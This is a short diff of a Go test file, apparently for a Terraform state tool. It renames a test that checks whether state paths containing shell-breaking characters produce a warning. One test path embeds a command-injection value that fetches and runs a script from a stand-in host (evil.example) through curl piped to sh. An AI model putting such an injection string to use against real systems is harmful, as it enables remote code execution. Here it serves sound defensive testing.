@@ -8,7 +8,7 @@ import (
 )
 
 // Whoever names a state chooses what people would put between the quotes of a command.
-func TestNobodyIsToldToPutQuotationMarksIntoACommand(t *testing.T) {
+func TestNobodyIsAskedToPutQuotationMarksIntoACommand(t *testing.T) {
 	for path, warned := range map[tflock.Path]bool{"states/branches/feature-1/x.tfstate": false, "states/branches/it's-mine/$(curl evil.example|sh)'/x": true} {
 		report := pruneReport()
 		report.States[0].Path = path
